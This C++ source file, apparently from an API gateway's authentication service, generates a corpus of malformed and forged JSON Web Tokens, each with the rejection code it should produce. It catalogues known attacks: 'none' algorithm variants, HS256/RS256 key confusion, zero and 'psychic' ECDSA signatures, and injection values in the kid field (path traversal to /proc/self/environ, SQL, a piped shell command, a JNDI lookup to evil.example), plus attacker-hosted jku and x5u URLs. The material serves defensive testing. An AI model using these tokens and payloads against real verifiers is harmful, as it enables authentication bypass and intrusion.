// Bad tokens by form, signature, algorithm, key and header.
#include <openssl/bio.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/rsa.h>

#include <utility>

#include "absl/strings/ascii.h"
#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "services/gateway/auth/bad_tokens.h"

namespace juchu::gateway {
namespace {

using Json = nlohmann::json;

constexpr char kMalformed[] = "TOKEN_MALFORMED";
constexpr char kAlgorithm[] = "TOKEN_ALGORITHM_NOT_ALLOWED";
constexpr char kSignature[] = "TOKEN_SIGNATURE_INVALID";

// The good token taken apart.
struct Parts {
  explicit Parts(const TokenForge& forge)
      : header(TokenForge::Header().dump()),
        claims(forge.Claims().dump()),
        input(SigningInput(header, claims)),
        whole(forge.Good()),
        signature(whole.substr(input.size() + 1)) {
    absl::WebSafeBase64Unescape(signature, &raw_signature);
  }
  // The good input under another signature.
  std::string Signed(absl::string_view raw) const { return absl::StrCat(input, ".", Encode(raw)); }

  std::string header;
  std::string claims;
  std::string input;
  std::string whole;
  std::string signature;
  std::string raw_signature;
};

// `text` with one character, or one byte, put in.
std::string Inserted(const std::string& text, size_t at, absl::string_view what) {
  return absl::StrCat(text.substr(0, at), what, text.substr(at));
}

// A signature by the RSA key with another padding or digest than RS256 has.
std::string RsaSignature(const RsaKey& key, absl::string_view input, const EVP_MD* digest, int padding) {
  BIO* in = BIO_new_mem_buf(key.private_pem.data(), static_cast<int>(key.private_pem.size()));
  EVP_PKEY* secret = PEM_read_bio_PrivateKey(in, nullptr, nullptr, nullptr);
  EVP_MD_CTX* context = EVP_MD_CTX_new();
  EVP_PKEY_CTX* options = nullptr;
  EVP_DigestSignInit(context, &options, digest, nullptr, secret);
  EVP_PKEY_CTX_set_rsa_padding(options, padding);
  std::string signature(256, '\0');
  size_t size = signature.size();
  EVP_DigestSign(context, reinterpret_cast<unsigned char*>(signature.data()), &size,
                 reinterpret_cast<const unsigned char*>(input.data()), input.size());
  EVP_MD_CTX_free(context);
  EVP_PKEY_free(secret);
  BIO_free(in);
  return signature;
}

void AddForms(const TokenForge& forge, const Parts& good, std::vector<BadToken>& corpus) {
  const std::string fifth = absl::StrCat(good.whole, ".", Encode("tag"));
  corpus.insert(
      corpus.end(),
      {{"empty", "", "TOKEN_MISSING"},
       {"a word", "hello", kMalformed},
       {"dots only", "..", kMalformed},
       {"one dot", ".", kMalformed},
       {"a million dots' beginning", std::string(4000, '.'), kMalformed},
       {"two parts", good.input, kMalformed},
       {"four parts", good.whole + ".abc", kMalformed},
       {"four parts, the last empty", good.whole + ".", kMalformed},
       {"a dot in front", "." + good.whole, kMalformed},
       {"five parts", absl::StrCat(good.header, "..", good.whole), kMalformed},
       {"JWE with five parts", Inserted(fifth, fifth.find('.'), absl::StrCat(".", Encode("key"))), kMalformed},
       {"JWE, direct encryption",
        absl::StrCat(Encode(R"({"alg":"dir","enc":"A128GCM"})"), "..", Encode(std::string(12, 'n')), ".",
                     Encode(good.claims), ".", Encode(std::string(16, 't'))),
        kMalformed},
       {"JWS in JSON form, flattened",
        Json{{"protected", Encode(good.header)}, {"payload", Encode(good.claims)}, {"signature", good.signature}}
            .dump(),
        kMalformed},
       {"JWS in JSON form, general",
        Json{{"payload", Encode(good.claims)},
             {"signatures", {{{"protected", Encode(good.header)}, {"signature", good.signature}}}}}
            .dump(),
        kMalformed},
       {"detached payload", absl::StrCat(Encode(good.header), "..", good.signature), kMalformed},
       {"detached payload, signed so", SignEs256(forge.Secret(), good.header, ""), kMalformed},
       {"payload not encoded", absl::StrCat(Encode(good.header), ".", good.claims, ".", good.signature), kMalformed},
       {"nothing encoded", absl::StrCat(good.header, ".", good.claims, ".", good.signature), kMalformed},
       {"with the scheme", "Bearer " + good.whole, kMalformed},
       {"with the scheme twice", "Bearer Bearer " + good.whole, kMalformed},
       {"with another scheme", "Basic " + good.whole, kMalformed},
       {"between quotes", absl::StrCat("\"", good.whole, "\""), kMalformed},
       {"two tokens with a comma", absl::StrCat(good.whole, ",", good.whole), kMalformed},
       {"two tokens with a space", absl::StrCat(good.whole, " ", good.whole), kMalformed},
       {"as a parameter", "token=" + good.whole, kMalformed},
       {"white space in front", " " + good.whole, kMalformed},
       {"white space behind", good.whole + " ", kMalformed},
       {"tab in front", "\t" + good.whole, kMalformed},
       {"line break behind", good.whole + "\n", kMalformed},
       {"a header line behind", good.whole + "\r\nx-juchu-tenant: shop-b", kMalformed},
       {"line break inside, as MIME breaks base64", Inserted(good.whole, 76, "\r\n"), kMalformed},
       {"white space inside", Inserted(good.whole, good.input.size() + 5, " "), kMalformed},
       {"NUL inside", Inserted(good.whole, 20, absl::string_view("\0", 1)), kMalformed},
       {"NUL behind", good.whole + std::string(1, '\0'), kMalformed},
       {"a byte above 127", Inserted(good.whole, 20, "\xff"), kMalformed},
       {"byte order mark in front", "\xEF\xBB\xBF" + good.whole, kMalformed},
       {"zero-width space inside", Inserted(good.whole, 30, "\xE2\x80\x8B"), kMalformed},
       {"full-width dots", absl::StrReplaceAll(good.whole, {{".", "\xEF\xBC\x8E"}}), kMalformed},
       {"in UTF-16", "\xFF\xFE" + absl::StrReplaceAll(good.whole, {{"e", std::string("e\0", 2)}}), kMalformed},
       {"per cent for dots", absl::StrReplaceAll(good.whole, {{".", "%2E"}}), kMalformed},
       {"encoded once more", Encode(good.whole), kMalformed},
       {"nested JWT", SignEs256(forge.Secret(), R"({"alg":"ES256","kid":"es-1","cty":"JWT"})", good.whole), kMalformed},
       {"nested JWT as a JSON text", SignEs256(forge.Secret(), good.header, Json(good.whole).dump()), kMalformed},
       {"10 KB", forge.WithClaims({{"sub", "x"}, {"padding", std::string(10'000, 'x')}}), kMalformed},
       {"just over 4 KiB", good.whole + std::string(4097 - good.whole.size(), 'A'), kMalformed},
       {"token cut", good.whole.substr(0, good.whole.size() / 2), kMalformed},
       {"in capitals", absl::AsciiStrToUpper(good.whole), kMalformed}});
}

void AddSignatures(const TokenForge& forge, const Parts& good, std::vector<BadToken>& corpus) {
  const std::string r = good.raw_signature.substr(0, 32);
  const std::string s = good.raw_signature.substr(32);
  std::string one_bit = good.raw_signature;
  one_bit[40] = static_cast<char>(one_bit[40] ^ 1);
  // 64 bytes leave four bits over in the last character: setting them spells the same bytes.
  std::string stray = good.whole;
  stray.back() = stray.back() == 'A' ? 'B' : static_cast<char>(stray.back() + 1);
  const std::string order(
      "\xff\xff\xff\xff\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff"
      "\xbc\xe6\xfa\xad\xa7\x17\x9e\x84\xf3\xb9\xca\xc2\xfc\x63\x25\x51",
      32);
  Json admin = forge.Claims();
  admin["role"] = "admin";
  const std::string other = forge.WithClaims({{"sub", "taro"}});
  corpus.insert(
      corpus.end(),
      {{"signature empty", good.input + ".", kMalformed},
       {"signature of one character", good.input + ".A", kMalformed},
       {"signature of one byte", good.input + ".AA", kSignature},
       {"psychic zero signature", good.Signed(std::string(64, '\0')), kSignature},
       {"zero signature in DER", good.Signed("\x30\x06\x02\x01\x01\x02\x01\x01"), kSignature},
       {"r zero", good.Signed(std::string(32, '\0') + s), kSignature},
       {"s zero", good.Signed(r + std::string(32, '\0')), kSignature},
       {"r the group's order", good.Signed(order + s), kSignature},
       {"s the group's order", good.Signed(r + order), kSignature},
       {"r and s the group's order", good.Signed(order + order), kSignature},
       {"r and s one", good.Signed(std::string(31, '\0') + "\x01" + std::string(31, '\0') + "\x01"), kSignature},
       {"r and s swapped", good.Signed(s + r), kSignature},
       {"all ones", good.Signed(std::string(64, '\xff')), kSignature},
       {"signature cut", good.Signed(good.raw_signature.substr(0, 63)), kSignature},
       {"signature longer", good.Signed(good.raw_signature + "x"), kSignature},
       {"zeros before r and s", good.Signed(std::string(1, '\0') + r + std::string(1, '\0') + s), kSignature},
       {"signature twice", good.Signed(good.raw_signature + good.raw_signature), kSignature},
       {"signature in hexadecimal", good.Signed(absl::BytesToHexString(good.raw_signature)), kSignature},
       {"signature encoded twice", good.Signed(good.signature), kSignature},
       {"one bit of the signature", good.Signed(one_bit), kSignature},
       {"padded signature", good.whole + "==", kMalformed},
       {"padding in the middle", Inserted(good.whole, good.input.size() + 4, "="), kMalformed},
       {"padded header", absl::StrCat(Encode(good.header), "=.", Encode(good.claims), ".", good.signature), kMalformed},
       {"padded payload", absl::StrCat(good.input, "=.", good.signature), kMalformed},
       {"standard base64", absl::StrCat(good.input, ".+", good.signature.substr(1)), kMalformed},
       {"standard base64 with a slash", absl::StrCat(good.input, "./", good.signature.substr(1)), kMalformed},
       {"a comma for a character", absl::StrCat(good.input, ".,", good.signature.substr(1)), kMalformed},
       {"signature not canonical", stray, kMalformed},
       {"signature of another token of ours", absl::StrCat(good.input, ".", other.substr(other.rfind('.') + 1)),
        kSignature},
       {"payload changed after signing",
        absl::StrCat(Encode(good.header), ".", Encode(admin.dump()), ".", good.signature), kSignature},
       {"header changed after signing",
        absl::StrCat(Encode(R"({"alg":"ES256","kid":"es-1"})"), ".", Encode(good.claims), ".", good.signature),
        kSignature},
       {"payload written otherwise",
        absl::StrCat(Encode(good.header), ".", Encode(forge.Claims().dump(1)), ".", good.signature), kSignature}});
}

void AddRsaSignatures(const TokenForge& forge, const Parts& good, std::vector<BadToken>& corpus) {
  const RsaKey& rsa = forge.rsa();
  const std::string header = R"({"alg":"RS256","kid":"rs-1"})";
  const std::string input = SigningInput(header, good.claims);
  const auto with = [&](absl::string_view signature) { return absl::StrCat(input, ".", Encode(signature)); };
  const RsaKey other = MakeRsaKey("rs-1", 2048);
  const RsaKey small = MakeRsaKey("rs-1", 1024);
  corpus.insert(
      corpus.end(),
      {{"RS256 with PSS padding", with(RsaSignature(rsa, input, EVP_sha256(), RSA_PKCS1_PSS_PADDING)), kSignature},
       {"RS256 over SHA-1", with(RsaSignature(rsa, input, EVP_sha1(), RSA_PKCS1_PADDING)), kSignature},
       {"RS256 over SHA-384", with(RsaSignature(rsa, input, EVP_sha384(), RSA_PKCS1_PADDING)), kSignature},
       {"RS256 over SHA-512", with(RsaSignature(rsa, input, EVP_sha512(), RSA_PKCS1_PADDING)), kSignature},
       {"RS256 over MD5", with(RsaSignature(rsa, input, EVP_md5(), RSA_PKCS1_PADDING)), kSignature},
       {"RS256 over the payload alone", with(RsaSignature(rsa, good.claims, EVP_sha256(), RSA_PKCS1_PADDING)),
        kSignature},
       {"RS256 of zeros", with(std::string(256, '\0')), kSignature},
       {"RS256 of one", with(std::string(255, '\0') + "\x01"), kSignature},
       {"RS256 of ones", with(std::string(256, '\xff')), kSignature},
       {"RS256 padding without a signature",
        with(absl::StrCat(std::string("\0\x01", 2), std::string(253, '\xff'), std::string(1, '\0'))), kSignature},
       {"RS256 short", with(std::string(255, 'x')), kSignature},
       {"RS256 long", with(std::string(257, 'x')), kSignature},
       {"RS256 with an ES256 signature", with(good.raw_signature), kSignature},
       {"RS256 by another key", SignRs256(other.private_pem, header, good.claims), kSignature},
       {"RS256 by a key of 1,024 bits", SignRs256(small.private_pem, header, good.claims), kSignature},
       {"RS256 by an embedded key",
        SignRs256(other.private_pem, Json{{"alg", "RS256"}, {"kid", "rs-1"}, {"jwk", other.jwk}}.dump(), good.claims),
        kSignature}});
}

void AddAlgorithms(const TokenForge& forge, const Parts& good, std::vector<BadToken>& corpus) {
  const auto unsigned_with = [&](absl::string_view alg) {
    return SigningInput(absl::StrCat(R"({"alg":")", alg, R"(","kid":"es-1"})"), good.claims);
  };
  corpus.insert(
      corpus.end(),
      {{"none", unsigned_with("none") + ".", kAlgorithm},
       {"None", unsigned_with("None") + ".", kAlgorithm},
       {"nOnE", unsigned_with("nOnE") + ".", kAlgorithm},
       {"NONE with a signature", absl::StrCat(unsigned_with("NONE"), ".", good.signature), kAlgorithm},
       {"none in escapes", unsigned_with(R"(\u006eone)") + ".", kAlgorithm},
       {"none with a space", unsigned_with(" none") + ".", kAlgorithm},
       {"none without a last dot", unsigned_with("none"), kMalformed},
       {"HS256 with the public key", SignHs256(forge.rsa().public_pem, R"({"alg":"HS256","kid":"rs-1"})", good.claims),
        kAlgorithm},
       {"HS256 with the public key, no line end behind",
        SignHs256(absl::StripTrailingAsciiWhitespace(forge.rsa().public_pem), R"({"alg":"HS256","kid":"rs-1"})",
                  good.claims),
        kAlgorithm},
       {"HS256 with the JWK", SignHs256(forge.rsa().jwk.dump(), R"({"alg":"HS256","kid":"rs-1"})", good.claims),
        kAlgorithm},
       {"HS256 with an empty key", SignHs256("", R"({"alg":"HS256","kid":"es-1"})", good.claims), kAlgorithm},
       {"HMAC called RS256", SignHs256(forge.rsa().public_pem, R"({"alg":"RS256","kid":"rs-1"})", good.claims),
        kSignature},
       {"RS256 named for an EC key", forge.WithHeader({{"alg", "RS256"}}), kAlgorithm},
       {"ES256 named for an RSA key", forge.WithHeader({{"kid", "rs-1"}}), kAlgorithm},
       {"RSA key under the EC key's id",
        SignRs256(forge.rsa().private_pem, R"({"alg":"RS256","kid":"es-1"})", good.claims), kAlgorithm},
       {"alg with a NUL behind", forge.WithHeader({{"alg", std::string("ES256\0", 6)}}), kAlgorithm},
       {"alg with a NUL and more", forge.WithHeader({{"alg", std::string("ES256\0none", 10)}}), kAlgorithm},
       {"alg empty", forge.WithHeader({{"alg", ""}}), kAlgorithm},
       {"alg absent", forge.WithHeader({{"alg", nullptr}}), kAlgorithm},
       {"alg null", forge.WithRawHeader(R"({"alg":null,"kid":"es-1"})"), kAlgorithm},
       {"alg true", forge.WithHeader({{"alg", true}}), kAlgorithm},
       {"alg a number", forge.WithHeader({{"alg", 256}}), kAlgorithm},
       {"alg a list", forge.WithHeader({{"alg", Json::array({"ES256"})}}), kAlgorithm},
       {"alg an object", forge.WithRawHeader(R"({"alg":{"ES256":1},"kid":"es-1"})"), kAlgorithm},
       {"alg in full width", forge.WithHeader({{"alg", "\uFF25\uFF33\uFF12\uFF15\uFF16"}}), kAlgorithm},
       {"alg with a Cyrillic letter", forge.WithHeader({{"alg", "E\u0405256"}}), kAlgorithm},
       {"alg with a zero-width space", forge.WithHeader({{"alg", "ES\u200B256"}}), kAlgorithm},
       {"alg with a space behind", forge.WithHeader({{"alg", "ES256 "}}), kAlgorithm},
       {"the member's name in capitals", forge.WithRawHeader(R"({"ALG":"ES256","kid":"es-1"})"), kAlgorithm}});
  for (const char* name :
       {"HS384",  "HS512",   "RS384",    "RS512", "PS256",
        "PS384",  "PS512",   "ES384",    "ES512", "ES256K",
        "EdDSA",  "Ed25519", "es256",    "Es256", "ECDSA",
        "SHA256", "A128KW",  "RSA-OAEP", "dir",   "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"}) {
    corpus.push_back({absl::StrCat("alg ", name), forge.WithHeader({{"alg", name}}), kAlgorithm});
  }
}

void AddKeys(const TokenForge& forge, const Parts& good, std::vector<BadToken>& corpus) {
  const auto with_kid = [&](const Json& kid) { return forge.WithHeader({{"kid", kid}}); };
  const auto foreign_with = [&](const Json& changes) {
    Json header = TokenForge::Header();
    header.merge_patch(changes);
    return SignEs256(forge.foreign().private_key_pem, header.dump(), good.claims);
  };
  corpus.insert(corpus.end(),
                {{"another key under our id", foreign_with(Json::object()), kSignature},
                 {"kid unknown", with_kid("es-2"), kSignature},
                 {"kid in other case", with_kid("ES-1"), kSignature},
                 {"kid the beginning of ours", with_kid("es-"), kSignature},
                 {"kid ours and more", with_kid("es-11"), kSignature},
                 {"kid a position in the set", with_kid("0"), kSignature},
                 {"kid absent", with_kid(nullptr), kMalformed},
                 {"kid null", forge.WithRawHeader(R"({"alg":"ES256","kid":null})"), kMalformed},
                 {"kid empty", with_kid(""), kMalformed},
                 {"kid a number", with_kid(1), kMalformed},
                 {"kid a list", with_kid(Json::array({"es-1"})), kMalformed},
                 {"kid an object", forge.WithRawHeader(R"({"alg":"ES256","kid":{"$ne":""}})"), kMalformed},
                 {"kid a path", with_kid("../../dev/null"), kMalformed},
                 {"kid an absolute path", with_kid("/proc/self/environ"), kMalformed},
                 {"kid an address", with_kid("https://evil.example/key"), kMalformed},
                 {"kid as SQL", with_kid("x' UNION SELECT 'AA"), kMalformed},
                 {"kid as a command", with_kid("es-1|id"), kMalformed},
                 {"kid as a template", with_kid("${jndi:ldap://evil.example/a}"), kMalformed},
                 {"kid as LDAP", with_kid("*)(uid=*"), kMalformed},
                 {"kid as a format", with_kid("%n%s"), kMalformed},
                 {"kid with a NUL", with_kid(std::string("es-1\0", 5)), kMalformed},
                 {"kid with a line break", with_kid("es-1\n"), kMalformed},
                 {"kid with a space", with_kid(" es-1"), kMalformed},
                 {"kid with a full-width digit", with_kid("es-\uFF11"), kMalformed},
                 {"kid with another hyphen", with_kid("es\u20101"), kMalformed},
                 {"kid with a combining mark", with_kid("es-1\u0301"), kMalformed},
                 {"kid of 65 characters", with_kid(std::string(65, 'k')), kMalformed},
                 {"key embedded as jwk", foreign_with({{"jwk", *PublicJwk(forge.foreign())}}), kSignature},
                 {"key named by jku", foreign_with({{"jku", "https://evil.example/jwks.json"}}), kSignature},
                 {"key named by a file jku", foreign_with({{"jku", "file:///tmp/jwks.json"}}), kSignature},
                 {"certificate embedded as x5c", foreign_with({{"x5c", Json::array({"MIIB"})}}), kSignature},
                 {"certificate named by x5u", foreign_with({{"x5u", "https://evil.example/cert.pem"}}), kSignature},
                 {"certificate named by x5t", foreign_with({{"x5t", "AAAA"}, {"x5t#S256", "AAAA"}}), kSignature},
                 {"key embedded and no kid", foreign_with({{"kid", nullptr}, {"jwk", *PublicJwk(forge.foreign())}}),
                  kMalformed}});
}

void AddHeaders(const TokenForge& forge, std::vector<BadToken>& corpus) {
  const auto raw = [&](absl::string_view text) { return forge.WithRawHeader(text); };
  corpus.insert(
      corpus.end(),
      {{"crit", forge.WithHeader({{"crit", Json::array({"exp"})}}), kMalformed},
       {"crit empty", forge.WithHeader({{"crit", Json::array()}}), kMalformed},
       {"crit null", raw(R"({"alg":"ES256","kid":"es-1","crit":null})"), kMalformed},
       {"crit and b64", forge.WithHeader({{"crit", Json::array({"b64"})}, {"b64", false}}), kMalformed},
       {"b64 false", forge.WithHeader({{"b64", false}}), kMalformed},
       {"b64 true", forge.WithHeader({{"b64", true}}), kMalformed},
       {"typ of a logout token", forge.WithHeader({{"typ", "logout+jwt"}}), kMalformed},
       {"typ of a DPoP proof", forge.WithHeader({{"typ", "dpop+jwt"}}), kMalformed},
       {"typ of a security event", forge.WithHeader({{"typ", "secevent+jwt"}}), kMalformed},
       {"typ of an authorization request", forge.WithHeader({{"typ", "oauth-authz-req+jwt"}}), kMalformed},
       {"typ JOSE", forge.WithHeader({{"typ", "JOSE"}}), kMalformed},
       {"typ empty", forge.WithHeader({{"typ", ""}}), kMalformed},
       {"typ a number", forge.WithHeader({{"typ", 1}}), kMalformed},
       {"typ a list", forge.WithHeader({{"typ", Json::array({"JWT"})}}), kMalformed},
       {"typ with a space", forge.WithHeader({{"typ", "JWT "}}), kMalformed},
       {"alg twice", raw(R"({"alg":"none","kid":"es-1","alg":"ES256"})"), kMalformed},
       {"alg twice, the same", raw(R"({"alg":"ES256","kid":"es-1","alg":"ES256"})"), kMalformed},
       {"alg twice, spelt otherwise", raw(R"({"alg":"none","kid":"es-1","\u0061lg":"ES256"})"), kMalformed},
       {"kid twice", raw(R"({"alg":"ES256","kid":"es-2","kid":"es-1"})"), kMalformed},
       {"header a list", raw(R"(["ES256"])"), kMalformed},
       {"header a text", raw(R"("ES256")"), kMalformed},
       {"header a number", raw("1"), kMalformed},
       {"header empty", raw(""), kMalformed},
       {"header not UTF-8", raw("{\"alg\":\"ES256\",\"kid\":\"es-1\",\"x\":\"\xff\"}"), kMalformed},
       {"header overlong UTF-8", raw("{\"alg\":\"ES256\",\"kid\":\"es-1\",\"x\":\"\xc0\xaf\"}"), kMalformed},
       {"header with half a surrogate", raw(R"({"alg":"ES256","kid":"es-1","x":"\ud800"})"), kMalformed},
       {"header with a comment", raw(R"({"alg":"ES256",/**/"kid":"es-1"})"), kMalformed},
       {"header with a comma too many", raw(R"({"alg":"ES256","kid":"es-1",})"), kMalformed},
       {"header in single quotes", raw("{'alg':'ES256','kid':'es-1'}"), kMalformed},
       {"header without quotes", raw("{alg:\"ES256\",kid:\"es-1\"}"), kMalformed},
       {"header twice", raw(R"({"alg":"ES256","kid":"es-1"}{"alg":"none"})"), kMalformed},
       {"header with a NUL behind", raw(absl::string_view("{\"alg\":\"ES256\",\"kid\":\"es-1\"}\0", 29)), kMalformed},
       {"header with a byte order mark", raw("\xEF\xBB\xBF{\"alg\":\"ES256\",\"kid\":\"es-1\"}"), kMalformed},
       {"header with a NUL and another behind",
        raw(absl::string_view("{\"alg\":\"ES256\",\"kid\":\"es-1\"}\0{\"alg\":\"none\"}", 43)), kMalformed},
       {"header with NaN", raw(R"({"alg":"ES256","kid":"es-1","x":NaN})"), kMalformed},
       {"header with a raw line break in a text", raw("{\"alg\":\"ES256\",\"kid\":\"es-1\",\"x\":\"\n\"}"), kMalformed},
       {"header 30 deep",
        raw(absl::StrCat(R"({"alg":"ES256","kid":"es-1","x":)", std::string(30, '['), std::string(30, ']'), "}")),
        kMalformed}});
}

}  // namespace

std::vector<BadToken> BadEnvelopes(const TokenForge& forge) {
  const Parts good(forge);
  std::vector<BadToken> corpus;
  AddForms(forge, good, corpus);
  AddSignatures(forge, good, corpus);
  AddRsaSignatures(forge, good, corpus);
  AddAlgorithms(forge, good, corpus);
  AddKeys(forge, good, corpus);
  AddHeaders(forge, corpus);
  return corpus;
}

}  // namespace juchu::gateway
